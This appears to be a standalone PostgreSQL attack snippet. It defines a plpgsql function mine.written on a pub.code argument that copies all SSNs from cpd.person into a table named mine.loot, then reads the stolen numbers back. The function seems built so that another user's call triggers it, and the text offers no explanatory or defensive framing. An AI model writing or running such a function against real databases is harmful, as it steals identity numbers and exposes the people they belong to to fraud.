CREATE OR REPLACE FUNCTION mine.written(pub.code) RETURNS text LANGUAGE plpgsql AS
$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN 'x'; END $$;
SELECT * FROM mine.loot;
